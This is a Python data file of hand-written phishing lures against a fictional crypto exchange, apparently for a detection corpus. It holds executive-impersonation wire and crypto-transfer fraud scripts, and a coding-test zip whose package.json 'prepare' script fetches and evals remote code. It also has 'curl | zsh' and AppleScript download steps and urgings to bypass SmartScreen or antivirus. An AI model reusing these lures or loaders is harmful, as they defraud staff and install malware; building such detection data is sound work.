"""Set E lures: hand-written for this set (new stories, partners, domains and wording).

Every attachment is inert: it names invented hosts and does nothing.
"""

from __future__ import annotations

from attachments_c import mac_app_zip, msi, svg_smuggling
from attachments_d import applescript, chm, jscript
from binaries import (hta, html_smuggling, iso_image, lnk, pe_stub, seven_zip, word_document,
                      zip_archive)
from people import (ALL_STAFF, CEO, CFO, HADDAD, ITO, ITO_JA, KEIRI, LAURENT, LI, PARK, SUPPORT, SUZUKI, SUZUKI_JA,
                    TAKAHASHI, TAKAHASHI_JA, TANAKA, TANAKA_JA, TREASURY)
from spec import Att, Mail
from threads_e import (QIMMA_FAKE, QIMMA_MID, DAEHAN_FAKE, DAEHAN_MID, HALVORSEN_FAKE, HALVORSEN_MID,
                       HALVORSEN_REPLY_MID, KIRISHIMA_FAKE, KIRISHIMA_MID, LIANHE_FAKE, VASSEUR_FAKE)

ZIP, SEVENZ = "application/zip", "application/x-7z-compressed"

# -- exec-impersonation ---------------------------------------------------------------------------

EXEC = [
    Mail("lure", "exec-impersonation", "ja",
         "CEO's Japanese name and title on Gmail: urgent USDC 'margin deposit' to a new exchange, says he cannot take calls",
         ("佐藤 陽翔（代表取締役CEO）", "sato.haruto.kx@gmail.com"), (TANAKA_JA,),
         "【至急・社外秘】新規上場先への証拠金送金の件",
         """田中さん

お疲れさまです。佐藤です。
今、シンガポールで先方の役員と最終協議中のため電話に出られません。

本日中に先方の取引所へ上場審査用の証拠金として 180,000 USDC を送る必要があります。
法務・CFO には私から後ほど説明しますので、この件はまだ社内で共有しないでください。

送付先（ERC-20）：0x4e9Bd2a17c05F3b8E6a1D92c7fE0b5A3c8D41e27

完了したらこのアドレスにトランザクションIDだけ返信してください。
承認フローは帰国後に事後で回します。よろしくお願いします。

佐藤
""", "2026-11-03 16:42 +0900"),
    Mail("lure", "exec-impersonation", "en",
         "romaji CEO name on the .ne.jp swap of .co.jp asks an engineer to add an unknown GitHub account as org owner",
         ("Sato Haruto / CEO", "h.sato@kitsune-ex.ne.jp"), (SUZUKI,),
         "Quick favour before the investor demo",
         """Kenta-san,

I am about to walk into the demo with the Series C lead and they want to review the matching-engine repo
live with their technical partner. Please add the GitHub account "kx-haruto-demo" as an Owner of
github.com/kitsune-ex for today only - Member is not enough, they need to see Actions secrets too.

I'm on my iPad so I can't do it myself. Reply here when done, I can't take calls in the room.

Thanks,
Haruto Sato
Representative Director, CEO
Kitsune Exchange K.K.
""", "2026-11-05 10:17 +0900"),
    Mail("lure", "exec-impersonation", "en",
         "CFO display name on Proton Mail: confidential retainer wire to a new Singapore bank account",
         ("Emily Carter (CFO)", "emily.carter.cfo@proton.me"), (KEIRI,),
         "Confidential - retainer payment today",
         """Hello,

We are in the final stage of a confidential acquisition and outside counsel needs its retainer settled
before the Singapore close today. Please wire JPY 23,800,000 to:

Beneficiary: Tanager Ward Legal Pte. Ltd.
Bank: DBS Bank Ltd, Singapore - SWIFT DBSSSGSG
Account: 072-918834-6

Do not raise this in the usual payment channel yet; the deal team list is restricted. I'm writing from my
personal mailbox because the corporate one is under legal hold for the deal. Send me the SWIFT copy.

Emily
""", "2026-11-06 11:05 +0900"),
    Mail("lure", "exec-impersonation", "ja",
         "spoof of the CEO's own address (fails DMARC) with Reply-To on a lookalike: whitelist a new withdrawal address tonight",
         ("佐藤 陽翔", "h.sato@kitsune-ex.co.jp"), (TREASURY,),
         "出金先アドレスの追加登録について（本日中）",
         """トレジャリーチーム各位

佐藤です。
提携先との資本業務提携に伴い、以下のアドレスを本日中に出金先ホワイトリストへ追加してください。
通常の24時間ホールドは今回のみ私の権限で解除します。

BTC: bc1q7kx9m2p4t0v8wz3yq5r6h2j8f4n0s9d3c7e5ga

登録が終わったら折り返しこのメールに返信してください（移動中のため電話は取れません）。

代表取締役CEO 佐藤 陽翔
""", "2026-11-10 21:33 +0900", auth="fail", reply_to="sato-office@kitsune-ex-jp.com",
         return_path="bounce@mailer-relay7.net", helo="smtp.mailer-relay7.net"),
    Mail("lure", "exec-impersonation", "fr",
         "CFO name on GMX asks the Paris office for an urgent wire to a 'lawyer' for the PSAN/MiCA file",
         ("Emily Carter - Directrice financière", "e.carter.kitsune@gmx.fr"), (LAURENT,),
         "Dossier MiCA - virement à effectuer aujourd'hui",
         """Bonjour Camille,

Je suis en réunion avec l'AMF toute la matinée et je ne peux pas vous appeler. Le cabinet qui suit notre
agrément CASP nous demande de régler ses frais de dépôt avant 15h, sinon le dossier repasse en fin de file.

Merci d'effectuer un virement de 48 500 EUR :
Titulaire : Cabinet Royer & Associés
IBAN : FR76 1820 6004 1765 9301 8822 417
Motif : Dossier CASP Kitsune

Merci de rester discrète, l'information n'est pas encore publique. Envoyez-moi l'avis d'opéré sur cette
adresse dès que c'est fait.

Emily Carter
""", "2026-11-04 09:12 +0100"),
    Mail("lure", "exec-impersonation", "ko",
         "CEO name on Naver asks the Seoul office to buy USDT OTC and send it to a 'partnership deposit' address",
         ("사토 하루토 대표이사", "sato.haruto.ceo@naver.com"), (PARK,),
         "[대외비] 제휴 보증금 송금 요청",
         """박대현 님,

사토입니다. 지금 국내 거래소 측 경영진과 제휴 계약을 마무리하고 있어서 통화가 어렵습니다.
계약 조건상 오늘 중으로 보증금 250,000 USDT를 아래 주소로 보내야 합니다.

TRC-20: TQm4Vb8xR2nK7pL9sW3dF6hJ1cY5gE0aZt

서울 OTC 데스크에서 매수해서 바로 보내 주시고, 본사에는 제가 직접 설명하겠습니다.
이 건은 아직 공개 전이니 다른 분들께는 공유하지 마세요. 송금 후 TXID만 회신 부탁합니다.

사토 하루토
""", "2026-11-07 14:20 +0900"),
    Mail("lure", "exec-impersonation", "ar",
         "CEO name on Outlook.com asks the Dubai office to pay a 'licensing consultant' for VARA, keep it quiet",
         ("هاروتو ساتو - الرئيس التنفيذي", "haruto.sato.kitsune@outlook.com"), (HADDAD,),
         "طلب عاجل وسري - رسوم الترخيص",
         """عزيزي عمر،

أنا في اجتماع مغلق مع المستشارين في طوكيو ولا أستطيع الرد على الهاتف.
نحتاج اليوم إلى سداد رسوم المستشار المسؤول عن ملف ترخيص سلطة تنظيم الأصول الافتراضية في دبي قبل نهاية الدوام.

المبلغ: 96,000 دولار أمريكي بعملة USDT
العنوان: 0x91cD3e7A0b5F24a8E6d1C0b9F7a2E4d6B8c13F05

أرجو أن يبقى الأمر سرياً حتى الإعلان الرسمي، وأرسل لي رقم المعاملة على هذا البريد فقط.

هاروتو ساتو
""", "2026-11-09 10:45 +0400"),
    Mail("lure", "exec-impersonation", "zh",
         "CFO name on 163.com asks the HK OTC desk to send client KYC files and the whitelist sheet to her personal mail",
         ("艾米丽·卡特 财务总监", "emily_carter_kx@163.com"), (LI,),
         "紧急：请把客户资料发到这个邮箱",
         """李伟你好，

我在外面开审计会议，公司邮箱暂时登录不了。审计师要求今天下午看香港OTC客户的资料，
请把以下文件直接发到这个邮箱：
1. 前二十大OTC客户的KYC文件（护照、地址证明）
2. 提币白名单地址表（Excel）

时间很紧，不用走内部审批，我回来再补。谢谢！

Emily
""", "2026-11-12 15:10 +0800"),
]

# -- vendor-impersonation -------------------------------------------------------------------------

VENDOR = [
    Mail("lure", "vendor-impersonation", "en",
         "fake Fireblocks session notice links to console.fireblocks.io as a subdomain of an attacker domain",
         ("Fireblocks Workspace Security", "security@fireblocks-workspace.com"), (TANAKA,),
         "Action required: your Fireblocks console sessions were revoked",
         """Hi Mika,

As part of our November key-management hardening, all console sessions for workspace "Kitsune Exchange"
were revoked at 02:00 UTC. Pending transfers will stay in "Pending Authorization" until an Admin signs in
again and confirms the approval quorum.

Restore access: https://console.fireblocks.io.workspace-verify.com/login?ws=kitsune-ex

Please complete this within 12 hours; after that, unattended policies are paused for 72 hours.

Fireblocks Security Operations
""", "2026-11-02 11:20 +0000"),
    Mail("lure", "vendor-impersonation", "en",
         "fake Safe notice: 'transaction service sunset', import owner private keys into a CLI hosted on a lookalike",
         ("Safe{Wallet} Team", "updates@safe-wallet-labs.com"), (TREASURY,),
         "Legacy transaction service sunset - export your owner keys by Nov 14",
         """Hello Safe owner,

The legacy transaction service that indexes your Safe on Ethereum will be retired on 14 November. Safes
whose owners have not re-registered will not display queued transactions after that date.

To re-register, install the migration CLI and import each owner key when prompted:

  npm i -g @safe-wallet-labs/migrate && safe-migrate --import-owner-key

Hardware-wallet owners: export the key from your device companion app first, the CLI cannot read devices.

Safe{Wallet} Support
""", "2026-11-03 15:02 +0000"),
    Mail("lure", "vendor-impersonation", "ja",
         "Money Forward lookalike: 'invoice rejected', log in on moneyforward-cloud.jp (vendor not in the profile)",
         ("マネーフォワード クラウド請求書", "noreply@moneyforward-cloud.jp"), (KEIRI,),
         "【要対応】請求書の受領処理が完了していません",
         """キツネ取引所株式会社 経理部 御中

いつもマネーフォワード クラウドをご利用いただきありがとうございます。
取引先「株式会社ルミナス設計」様から送付された請求書（請求番号 LS-2611-042）の受領処理が
期限内に完了していないため、支払予定が保留されています。

以下より再ログインのうえ、内容をご確認ください。
https://moneyforward-cloud.jp/invoice/receive?id=LS-2611-042

※ 本メールは送信専用です。
株式会社マネーフォワード
""", "2026-11-05 09:30 +0900"),
    Mail("lure", "vendor-impersonation", "en",
         "fake CrowdStrike 'sensor hotfix' executable from a lookalike support domain (vendor not in the profile)",
         ("CrowdStrike Customer Support", "support@crowdstrike-falconsupport.com"), (TAKAHASHI,),
         "Falcon sensor 7.19 hotfix - manual install required for Windows hosts",
         """Dear Falcon administrator,

A regression in sensor 7.19.18103 can cause boot loops on Windows hosts with BitLocker enabled. Automatic
rollout of the fix is paused for your CID. Please install the hotfix manually on affected hosts:

https://crowdstrike-falconsupport.com/downloads/FalconHotfix_7.19.18104_x64.exe

Run it as Administrator. SmartScreen may show a warning because the certificate was reissued this week;
choose "More info" and "Run anyway".

CrowdStrike Technical Support
""", "2026-11-06 19:40 +0000"),
    Mail("lure", "vendor-impersonation", "ko",
         "VerifyVASP lookalike asks to upload the Travel Rule signing private key for 'certificate renewal'",
         ("VerifyVASP 운영팀", "ops@verifyvasp-kr.com"), (PARK,),
         "[VerifyVASP] 트래블룰 연동 인증서 만료 안내 (D-2)",
         """안녕하세요, VerifyVASP 운영팀입니다.

귀사의 트래블룰 연동 인증서가 11월 10일에 만료됩니다. 만료 시 국내 VASP 간 입출금 정보 전송이 중단되어
고객 출금이 지연될 수 있습니다.

아래 페이지에서 기존 서명용 개인키 파일(.pem)을 업로드하시면 새 인증서가 자동 발급됩니다.
https://verifyvasp-kr.com/cert/renew?vasp=kitsune

문의: 02-6952-7710
VerifyVASP 운영팀 드림
""", "2026-11-08 10:05 +0900"),
    Mail("lure", "vendor-impersonation", "zh",
         "Hex Trust lookalike pushes a 'new co-signer client' download (vendor not in the profile)",
         ("Hex Trust 客户服务", "service@hextrust-custody.com"), (LI,),
         "托管账户安全升级：请于11月13日前安装新版签名客户端",
         """尊敬的客户：

为配合香港证监会对托管业务的最新要求，Hex Trust 将于11月13日起停用旧版签名客户端。
届时未完成升级的账户将无法审批提币请求。

请下载并安装新版签名客户端（Windows / macOS）：
https://hextrust-custody.com/client/HexSigner-Setup-4.2.0.exe
https://hextrust-custody.com/client/HexSigner-4.2.0.pkg

安装时请使用管理员权限，并在首次启动时导入现有签名密钥。

Hex Trust 客户服务部
""", "2026-11-09 16:25 +0800"),
    Mail("lure", "vendor-impersonation", "fr",
         "Notabene lookalike (notabene-id.com) asks to connect the hot wallet and sign a 'VASP ownership proof'",
         ("Notabene - Conformité", "compliance@notabene-id.com"), (LAURENT,),
         "Règle de voyage : vérification de propriété de vos adresses",
         """Bonjour,

Dans le cadre du règlement TFR (UE 2023/1113), vos contreparties doivent pouvoir vérifier que les adresses
déclarées par Kitsune Exchange vous appartiennent. Votre profil VASP est actuellement « non vérifié ».

Connectez votre portefeuille de transit et signez la preuve de propriété ici :
https://app.notabene-id.com/ownership?vasp=kitsune-ex

La signature n'entraîne aucun frais. Sans vérification d'ici vendredi, les transferts sortants vers l'UE
seront mis en attente.

L'équipe Conformité Notabene
""", "2026-11-10 14:00 +0100"),
    Mail("lure", "vendor-impersonation", "ar",
         "1Password lookalike asks the Dubai office to 're-verify' the account Secret Key and master password",
         ("فريق أمان 1Password", "security@1password-teams.com"), (HADDAD,),
         "تنبيه أمني: يلزم التحقق من مفتاح الحساب السري",
         """مرحباً عمر،

رصدنا محاولة تسجيل دخول إلى خزنة فريق Kitsune Exchange من جهاز غير معروف في مدينة أخرى.
لحماية الخزنة علّقنا المزامنة مؤقتاً.

لاستعادة الوصول، يرجى إدخال المفتاح السري (Secret Key) وكلمة المرور الرئيسية في صفحة التحقق:
https://my.1password-teams.com/verify?team=kitsune-ex

إذا لم يتم التحقق خلال 24 ساعة فسيتم قفل الخزنة لجميع الأعضاء.

فريق أمان 1Password
""", "2026-11-11 08:15 +0400"),
]

# -- lookalike-link ---------------------------------------------------------------------------------

LOOKALIKE = [
    Mail("lure", "lookalike-link", "ja",
         "TLD swap kitsune-ex.tokyo poses as the IT department: password expiry page",
         ("キツネ取引所 情報システム部", "helpdesk@kitsune-ex.tokyo"), (ALL_STAFF,),
         "【情報システム部】パスワード有効期限のお知らせ",
         """社員各位

お使いのシングルサインオンのパスワードが 11月7日 に有効期限を迎えます。
期限を過ぎると社内システム（勤怠・経費・ウォレット管理画面）にログインできなくなります。

以下のページで現在のパスワードと新しいパスワードを入力してください。
https://sso.kitsune-ex.tokyo/password/renew

情報システム部
""", "2026-11-05 08:50 +0900"),
    Mail("lure", "lookalike-link", "en",
         "typo domain kltsune-ex.com (l for i) runs a 'benefits enrolment' page asking for SSO credentials",
         ("Kitsune People Team", "benefits@kltsune-ex.com"), (TANAKA, SUZUKI),
         "Open enrolment closes Friday - confirm your 2027 benefits",
         """Hi,

2027 benefits enrolment closes this Friday. If you do not confirm your selection, your dependants' coverage
will lapse on 1 January.

Sign in with your company account to review: https://benefits.kltsune-ex.com/enrol

People Team
Kitsune Exchange
""", "2026-11-04 13:05 +0900"),
    Mail("lure", "lookalike-link", "en",
         "colleague's name on kitsune-ex.io asks signers to review a queue on app.safe.global.tx-queue.io",
         ("Mika Tanaka", "m.tanaka@kitsune-ex.io"), (SUZUKI, TAKAHASHI),
         "Signers: weekly top-up queued",
         """Hi both,

Weekly hot-wallet top-up is queued. Please review and sign before 18:00:

https://app.safe.global.tx-queue.io/transactions/queue?safe=eth:0x2C81e4f0A9b3D57c61E8a0F4b2d9C7e5A3f16B08

The hash is on the page. Ping me if the Ledger shows anything odd, it is the usual 500 ETH.

Mika
""", "2026-11-09 14:22 +0900"),
    Mail("lure", "lookalike-link", "en",
         "partner 'settlement bot' links to a transposed Fireblocks console domain console.fireblocsk.io",
         ("Network Settlement Bot", "settlement-bot@fb-network-notify.com"), (TREASURY,),
         "New Fireblocks Network connection request from Brisa Markets",
         """Brisa Markets has requested to connect with your workspace on the Fireblocks Network.

Review and accept the connection so settlements can route automatically:
https://console.fireblocsk.io/network/connections/accept?id=8d1c40

Requests expire after 48 hours.
""", "2026-11-11 02:40 +0000"),
    Mail("lure", "lookalike-link", "ko",
         "doubled-letter typo kitsunne-ex.com poses as the Seoul expense system",
         ("경영지원팀", "expense@kitsunne-ex.com"), (PARK,),
         "[경비정산] 10월 법인카드 사용 내역 확인 요청",
         """박대현 님,

10월 법인카드 사용 내역 중 증빙이 누락된 건이 3건 있습니다.
11월 12일까지 아래 경비정산 시스템에 로그인하여 증빙을 첨부해 주세요. 기한 내 미제출 시 급여에서 공제됩니다.

https://expense.kitsunne-ex.com/seoul/login

경영지원팀 드림
""", "2026-11-10 09:40 +0900"),
    Mail("lure", "lookalike-link", "zh",
         "Cyrillic-x homoglyph of kitsune-ex.com (xn--kitsune-e-84h.com) poses as the HK OTC client portal",
         ("Kitsune OTC 客户门户", "portal@xn--kitsune-e-84h.com"), (LI,),
         "OTC门户：您的交易员账户需重新验证",
         """李伟您好，

OTC客户门户已升级双重验证。请在48小时内重新登录并绑定新的验证器，否则报价权限将被暂停。

登录地址：https://otc.xn--kitsune-e-84h.com/hk/login

Kitsune Exchange OTC 运营
""", "2026-11-13 10:30 +0800"),
]

# -- recruiter-coding-test -------------------------------------------------------------------------

_TAKEHOME_PKG = b"""{
  "name": "ledger-reconciler-challenge",
  "version": "1.0.3",
  "private": true,
  "scripts": {
    "prepare": "node -e \\"require('https').get('https://cdn.jsdelivr-pkg.net/r/cfg.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\\"",
    "test": "jest"
  },
  "devDependencies": {"jest": "^29.7.0"}
}
"""

RECRUITER = [
    Mail("lure", "recruiter-coding-test", "en",
         "web3 'talent partner' sends a GitHub take-home to run with npm install / npm run dev, then moves to Telegram",
         ("Ava Lindqvist | Halyard Protocol", "ava@halyard-protocol.xyz"), (SUZUKI,),
         "Senior Backend role - technical step",
         """Hi Kenta,

Thanks for the quick chat on LinkedIn. As discussed, the next step for the Senior Backend (Rust/TS) role is
a short practical exercise. Our lead engineer prepared a small perp-engine service with a failing test:

https://github.com/halyard-protocol-hiring/perp-engine-assessment

Clone it, run `npm install` and `npm run dev`, and fix the funding-rate bug. It should take 45 minutes.
Please do it on the machine you use daily so we can see your real setup in the follow-up call.

Once done, message me on Telegram (@ava_halyard) and we will book the call with our CTO.

Best,
Ava
""", "2026-11-02 18:30 +0000"),
    Mail("lure", "recruiter-coding-test", "ja",
         "headhunter on Gmail sends a Bitbucket repo to run with node server.js and moves the talk to Discord",
         ("ブロックチェーン専門エージェント 中川 亮", "ryo.nakagawa.agent@gmail.com"), (SUZUKI_JA,),
         "年収2,000万円〜 DeFiプロトコル リードエンジニアのご紹介",
         """鈴木 健太 様

突然のご連絡失礼いたします。Web3 専門の転職エージェントをしております中川と申します。
海外 DeFi プロトコル（シリーズB）のリードエンジニア職で、鈴木様のご経歴が先方の求める要件に合致しております。

一次選考は実技のみです。以下のリポジトリを取得し、`npm i` の後 `node server.js` で起動して
レンディングプールの清算ロジックの不具合を修正してください（目安 1 時間）。
https://bitbucket.org/lendora-labs/lending-pool-review

完了しましたら Discord（nakagawa_ryo#web3）までご連絡ください。
面接日程はそちらで調整いたします。
""", "2026-11-04 21:15 +0900"),
    Mail("lure", "recruiter-coding-test", "en",
         "GitLab take-home that must be opened in VS Code with 'Trust workspace' (auto-run tasks.json), 24-hour window",
         ("Daniel Okoye - Engineering Hiring", "daniel.okoye@meridianlabs.finance"), (SUZUKI,),
         "Meridian Labs - coding exercise (24h)",
         """Hello Kenta,

Thank you for your interest in Meridian Labs. The exercise is in our GitLab:

https://gitlab.com/meridianlabs-eng/matching-engine-exercise

Important: open the folder in VS Code and click "Yes, I trust the authors" when prompted - the workspace
tasks install the toolchain and start the local order-book simulator automatically. Without it the tests
will not run. You have 24 hours from this email.

Regards,
Daniel Okoye
""", "2026-11-06 07:50 +0000"),
    Mail("lure", "recruiter-coding-test", "fr",
         "French recruiter on GMX attaches a take-home zip whose package.json 'prepare' script evals remote code",
         ("Julien Besnard - Recrutement Tech", "julien.besnard.rh@gmx.fr"), (LAURENT,),
         "Poste Lead Blockchain (Paris/remote) - test technique",
         """Bonjour Camille,

Suite à notre échange, vous trouverez ci-joint le test technique pour le poste de Lead Blockchain chez notre
client (une fintech parisienne en forte croissance, je ne peux pas encore la nommer).

Décompressez l'archive, lancez `npm install` puis `npm test`, et corrigez les deux tests en échec du module
de rapprochement. Merci de me renvoyer votre version d'ici jeudi.

Bien à vous,
Julien Besnard
""", "2026-11-07 10:30 +0100",
         attachments=(Att("test-technique-ledger.zip", zip_archive([
             ("ledger-reconciler-challenge/package.json", _TAKEHOME_PKG),
             ("ledger-reconciler-challenge/README.md", b"# Ledger reconciler\nRun npm install then npm test.\n"),
             ("ledger-reconciler-challenge/src/reconcile.js", b"module.exports = (a, b) => a.filter(x => !b.includes(x));\n"),
         ]), ZIP),)),
    Mail("lure", "recruiter-coding-test", "ko",
         "Korean recruiter on Naver: clone a GitHub repo and run npx hardhat test, then talk on Telegram",
         ("김서연 (헤드헌터)", "seoyeon.kim.hr@naver.com"), (PARK,),
         "글로벌 DEX 스마트컨트랙트 리드 포지션 제안",
         """박대현 님 안녕하세요,

링크드인 프로필 보고 연락드립니다. 싱가포르 기반 DEX 프로젝트에서 스마트컨트랙트 리드를 찾고 있습니다.
1차 과제는 아래 저장소를 받아서 테스트를 통과시키는 것입니다.

https://github.com/orbitswap-dev/vault-audit-task

git clone 후 `npm i && npx hardhat test` 실행하시고, 실패하는 테스트 원인을 정리해 주세요.
결과는 텔레그램(@seoyeon_orbit)으로 보내 주시면 바로 CTO 면접 잡아드리겠습니다.

김서연 드림
""", "2026-11-08 20:10 +0900"),
    Mail("lure", "recruiter-coding-test", "zh",
         "headhunter on QQ mail: clone a Gitee trading-bot repo, run python main.py with real API keys, move to WeChat",
         ("猎头顾问 王磊", "wanglei_hunter@qq.com"), (LI,),
         "量化团队技术负责人机会（年薪面议）",
         """李伟您好，

我是专注区块链行业的猎头王磊。一家新加坡量化基金正在招聘技术负责人，看到您的背景非常匹配。
第一轮是实操测试：

https://gitee.com/apexquant-hr/grid-bot-test

克隆后执行 `pip install -r requirements.txt`，然后运行 `python main.py`，修复网格策略的下单错误。
为了测试真实环境，请在配置文件里填入您交易所账户的 API Key（只读即可）。

完成后加我微信 wl_hunter88 联系，谢谢！
""", "2026-11-09 22:05 +0800"),
]

# -- investor-meeting-install ---------------------------------------------------------------------

INVESTOR = [
    Mail("lure", "investor-meeting-install", "en",
         "investor's Zoom link on a lookalike host with a 'run this audio fix' curl | zsh step",
         ("Marcus Feld | Cobaltline Digital", "marcus@cobaltline-digital.fund"), (ITO,),
         "Re: Intro call with Haruto - confirmed for Thursday",
         """Hi Yuki,

Confirmed for Thursday 16:00 JST. Here is the link:
https://us05web.zoom.us.meeting-join.co/j/84193301772?pwd=bW3kT9

A few of our LPs had audio issues with Zoom on macOS last week. If Haruto hears nothing when he joins,
please have him paste this in Terminal, it resets the audio driver:

  curl -fsSL https://meeting-join.co/fix/audio.sh | zsh

Looking forward to it.
Marcus Feld, Partner
""", "2026-11-03 08:20 +0000"),
    Mail("lure", "investor-meeting-install", "ja",
         "Japanese 'VC' asks to install its own data-room viewer .dmg before the meeting and bypass Gatekeeper",
         ("青空パシフィック・キャピタル 小野寺", "onodera@aozora-pacific.capital"), (ITO_JA,),
         "11/12 面談前の資料閲覧ツールのご案内",
         """伊藤様

いつもお世話になっております。青空パシフィック・キャピタルの小野寺です。
11月12日の佐藤社長との面談に先立ち、タームシート案を当社データルームにアップロードいたしました。

情報管理の都合上、閲覧には専用ビューアが必要です。以下から佐藤社長の Mac にインストールをお願いします。
https://aozora-pacific.capital/dataroom/AozoraViewer-2.3.dmg

初回起動時に「開発元を確認できません」と表示された場合は、右クリック→「開く」で起動してください。
何卒よろしくお願いいたします。
""", "2026-11-06 17:45 +0900"),
    Mail("lure", "investor-meeting-install", "en",
         "'Teams enterprise build' MSI on a lookalike Microsoft domain required to join an investor call",
         ("Olivia Pemberton - Harborline Partners", "olivia.pemberton@harborline-partners.com"), (CFO,),
         "Harborline x Kitsune - diligence call",
         """Dear Emily,

Our compliance team requires external participants to join through our Teams enterprise tenant, which uses
an encrypted media relay. The standard client cannot join these meetings.

Please install the enterprise build before Tuesday: https://teams-microsoft.support/download/TeamsEnterprise_x64.msi

Meeting ID: 392 771 404 112, passcode Hb7xQ2.

Kind regards,
Olivia Pemberton
Principal, Harborline Partners
""", "2026-11-07 16:30 +0000"),
    Mail("lure", "investor-meeting-install", "ko",
         "Korean investor requires a 'Webex security plugin' exe from a .kr lookalike before the IR meeting",
         ("이준호 상무 | 하늘에쿼티파트너스", "junho.lee@haneul-equity.kr"), (PARK,),
         "IR 미팅 접속 안내 (보안 플러그인 설치 필요)",
         """박대현 님,

내일 오후 3시 IR 미팅 접속 안내드립니다. 당사 투자심의위원회 규정상 외부 미팅은 보안 플러그인을 설치한
Webex로만 진행됩니다.

1) 보안 플러그인 설치: https://webex-secure.kr/plugin/WebexSecurePlugin_Setup.exe
2) 설치 후 PC 재시작
3) 미팅 번호 2514 880 3391 입력

설치 중 백신 경고가 뜨면 '허용'을 눌러 주세요.
""", "2026-11-10 11:25 +0900"),
    Mail("lure", "investor-meeting-install", "fr",
         "family office requires its 'Confidia' encrypted video client .pkg for a board-level call",
         ("Antoine de Verneuil - Verneuil Family Office", "a.deverneuil@verneuil-fo.com"), (LAURENT,),
         "Entretien avec M. Sato - accès à la salle sécurisée",
         """Chère Madame Laurent,

Pour l'entretien de mercredi avec M. Sato, nous utilisons notre propre solution de visioconférence chiffrée,
Confidia, imposée par notre comité d'investissement.

Merci d'installer le client sur le Mac de M. Sato avant la réunion :
https://verneuil-fo.com/secure/Confidia-Client-5.1.pkg
Le mot de passe administrateur du Mac sera demandé lors de l'installation, c'est normal.

Bien cordialement,
Antoine de Verneuil
""", "2026-11-11 15:40 +0100"),
    Mail("lure", "investor-meeting-install", "zh",
         "Chinese 'investor' sends a DingTalk 'overseas encrypted edition' installer on a non-official domain",
         ("投资总监 陈思远", "chensy@longmen-capital.cn"), (LI,),
         "关于下周与佐藤先生的视频会议",
         """李先生您好，

下周二与佐藤先生的会议将通过钉钉进行。由于涉及投资条款，我们使用钉钉海外加密版，请提前安装：
https://dingtalk-global.app/download/DingTalk_Secure_7.6.exe

安装时如杀毒软件拦截，请暂时关闭后再安装。会议号稍后发送。

龙门资本 陈思远
""", "2026-11-12 09:55 +0800"),
    Mail("lure", "investor-meeting-install", "ar",
         "Abu Dhabi 'investor' sends a zipped AppleScript 'meeting connector' for a private call",
         ("فيصل الحمادي", "faisal@sahra-capital.ae"), (HADDAD,),
         "اجتماع المستثمرين يوم الأحد - أداة الاتصال",
         """عزيزي عمر،

نؤكد اجتماعنا مع السيد ساتو يوم الأحد. لأسباب تتعلق بالسرية نستخدم أداة اتصال خاصة بصندوقنا.
الرجاء فتح الملف المرفق على جهاز ماك قبل الاجتماع بعشر دقائق، وسيطلب كلمة مرور الجهاز لتفعيل الكاميرا.

مع التحية،
فيصل الحمادي - شريك، صحراء كابيتال
""", "2026-11-13 12:10 +0400",
         attachments=(Att("Sahra_Meeting_Connector.zip",
                          mac_app_zip("Sahra Meeting Connector",
                                      applescript("https://sahra-capital.ae/c/mc.sh",
                                                  "Meeting Connector needs your password to enable the camera.").decode()),
                          ZIP),)),
]

# -- trading-app ------------------------------------------------------------------------------------

TRADING = [
    Mail("lure", "trading-app", "en",
         "AI price-prediction app for treasury as an unsigned exe with 'Run anyway'",
         ("Quantrix Labs", "hello@quantrix-labs.io"), (TANAKA,),
         "AlphaPulse for treasury desks - 30 day pilot",
         """Hi Mika,

Treasury teams at three Asian exchanges use AlphaPulse to time their hot-wallet rebalancing: the model
predicts 4-hour ETH/BTC moves with 71% hit rate. We'd like to offer Kitsune a free 30-day pilot.

Download (Windows): https://quantrix-labs.io/download/AlphaPulse-Setup-3.4.exe
Windows will say the publisher is unknown while our EV certificate is being renewed - click "More info"
then "Run anyway". Sign in with your exchange API key (trade permission) to see live signals.

Quantrix Labs
""", "2026-11-02 05:10 +0000"),
    Mail("lure", "trading-app", "ja",
         "fake 'official market-data SDK' on a GitHub org impersonating the company (kitsune-ex-official, not kitsune-ex)",
         ("Kitsune Developer Relations", "devrel@kitsune-ex-devrel.com"), (SUZUKI_JA,),
         "マーケットデータ SDK v2 リリースのお知らせ（社内向け先行配布）",
         """開発チーム各位

マーケットデータ配信 SDK v2 を社内先行でリリースしました。
板情報のスナップショット取得が 3 倍高速になっています。以下でインストールしてください。

pip install git+https://github.com/kitsune-ex-official/marketfeed-sdk.git

初回 import 時にローカルの API 設定（~/.kitsune/credentials）を自動で読み込みます。

Kitsune DevRel
""", "2026-11-05 11:40 +0900"),
    Mail("lure", "trading-app", "ko",
         "Korean 'arbitrage bot' zip link: exe plus a request to add a Windows Defender exclusion",
         ("코인봇 연구소", "support@coinbot-lab.co.kr"), (PARK,),
         "[무료배포] 김프 차익거래 자동매매 봇 v5.2",
         """안녕하세요, 코인봇 연구소입니다.

거래소 실무자분들께 김치프리미엄 차익거래 자동매매 봇을 무료로 배포하고 있습니다.
https://coinbot-lab.co.kr/download/KimpBot_v5.2.zip

압축 해제 후 KimpBot.exe를 실행하시고, 오탐 방지를 위해 Windows 보안에서 해당 폴더를 '제외'에 추가해 주세요.
API 키는 출금 권한까지 체크해야 자동 리밸런싱이 동작합니다.
""", "2026-11-07 13:30 +0900"),
    Mail("lure", "trading-app", "zh",
         "quant 'terminal' pkg for macOS that asks for the admin password and full disk access",
         ("Deepflow 量化终端", "team@deepflow-quant.com"), (LI,),
         "Deepflow 专业版 Mac 终端 免费试用",
         """您好，

Deepflow 专业版量化终端现已支持 macOS，提供订单簿深度预测与跨所套利信号。
下载地址：https://deepflow-quant.com/mac/DeepflowTerminal-2.8.pkg

安装时会要求输入管理员密码，并请在"系统设置 > 隐私与安全性"中授予"完全磁盘访问权限"，
否则无法读取本地钱包配置。

Deepflow 团队
""", "2026-11-10 18:20 +0800"),
    Mail("lure", "trading-app", "fr",
         "French 'trading terminal' Linux AppImage with chmod +x and a request for a withdrawal-enabled API key",
         ("Équipe TradeSense", "contact@tradesense-pro.fr"), (LAURENT,),
         "TradeSense Pro - accès anticipé pour les plateformes",
         """Bonjour,

TradeSense Pro agrège la liquidité de 14 plateformes et prédit les mouvements à court terme grâce à notre
modèle propriétaire. Votre accès anticipé est prêt :

  wget https://tradesense-pro.fr/get/TradeSense-Pro-x86_64.AppImage
  chmod +x TradeSense-Pro-x86_64.AppImage && ./TradeSense-Pro-x86_64.AppImage

Au premier lancement, renseignez une clé API avec les droits de trading et de retrait pour activer le
rééquilibrage automatique.

L'équipe TradeSense
""", "2026-11-12 10:15 +0100"),
]

